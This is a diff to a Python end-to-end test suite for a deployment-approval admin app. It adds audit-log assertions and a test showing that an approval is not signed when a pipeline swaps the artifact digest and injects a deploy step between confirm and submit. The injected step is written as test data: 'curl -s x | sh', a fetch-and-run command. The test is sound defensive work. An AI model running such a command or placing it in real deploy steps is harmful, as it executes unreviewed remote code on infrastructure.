@@ -82,8 +82,11 @@ def test_a_wrong_password_records_nothing(browser: Any, live_server: Any, cast: 
     page.fill("#id_password", "not-my-password")
     page.click("#confirm")
 
-    assert "That is not your password" in page.content()
+    assert "The password is not right; nothing was recorded." in page.content()
     assert not AuditEvent.objects.filter(action="approval:approved").exists()
+    # The refusal itself is on the record, with who tried.
+    assert AuditEvent.objects.filter(action="authentication:step_up_failed", actor="user:approver").count() == 1
+    assert AuditEvent.objects.filter(action="approval:refused", actor="user:approver").count() == 1
 
 
 def test_the_requester_sees_their_change_without_the_buttons_and_a_forged_post_is_refused(
@@ -105,6 +108,7 @@ def test_the_requester_sees_their_change_without_the_buttons_and_a_forged_post_i
     )
     assert status == 403
     assert not AuditEvent.objects.filter(action="approval:approved").exists()
+    assert AuditEvent.objects.filter(action="approval:refused", actor="user:requester").count() == 1
 
 
 def test_an_approver_of_another_domain_does_not_see_the_change(
@@ -116,3 +120,57 @@ def test_an_approver_of_another_domain_does_not_see_the_change(
     assert page.locator(f"tr.queue-item[data-changelog='{change.pk}']").count() == 0
     response = page.goto(f"{live_server.url}/admin/approvals/approval/queue/{change.pk}/")
     assert response.status == 404
+
+
+def test_content_swapped_between_the_confirm_page_and_the_confirmation_is_not_signed(
+    browser: Any, live_server: Any, cast: Cast, change: Changelog
+) -> None:
+    """The approver opens the confirm page for revision 1 (digest X); the pipeline then swaps
+    the digest, adds a `curl … | sh` step and submits again; the approver confirms with their
+    password. Nothing is recorded: the page shows what changed, field by field."""
+    page = logged_in(browser, live_server, "approver")
+    page.goto(f"{live_server.url}/admin/approvals/approval/queue/{change.pk}/approved/")
+    shown_hash = page.locator("#signed-hash").inner_text()
+    assert shown_hash == change.current_revision.content_hash  # type: ignore[union-attr]
+
+    pipeline = cast.pipeline.client()
+    content = change.current_revision.content  # type: ignore[union-attr]
+    swapped_digest = "sha256:" + "ee" * 32
+    assert (
+        pipeline.patch(
+            f"/api/v1/changelogs/{change.pk}/",
+            {
+                "artifact": {**content["artifact"], "digest": swapped_digest},
+                "deploy_steps": [*content["deploy_steps"], {"description": "Tooling", "command": "curl -s x | sh"}],
+            },
+            format="json",
+        ).status_code
+        == 200
+    )
+    assert pipeline.post(f"/api/v1/changelogs/{change.pk}/submit").status_code == 200
+
+    page.fill("#id_reason", "Checked revision 1.")
+    page.fill("#id_password", PASSWORD)
+    page.click("#confirm")
+
+    page.wait_for_selector("#content-changed")
+    assert not change.approvals.exists()
+    assert AuditEvent.objects.filter(action="approval:refused", actor="user:approver").count() == 1
+    changed = page.locator("#content-changed")
+    digest_row = changed.locator("tr[data-path='artifact.digest']")
+    assert swapped_digest in digest_row.inner_text()
+    assert content["artifact"]["digest"] in digest_row.inner_text()
+    assert "curl -s x | sh" in changed.locator("tr[data-path='deploy_steps.3.command']").inner_text()
+    # The gate does not allow the swapped digest: nobody approved it.
+    decision = pipeline.post(
+        "/api/v1/gate/check", {"service": "payments-api", "artifact_digest": swapped_digest}, format="json"
+    ).json()
+    assert decision["decision"] == "deny"
+
+    # Having read what changed, the approver may decide on revision 2, and only that is signed.
+    page.fill("#id_password", PASSWORD)
+    page.click("#confirm")
+    page.wait_for_selector("#changelog-status")
+    [approval] = change.approvals.all()
+    assert approval.revision.number == 2
+    assert approval.content_hash != shown_hash
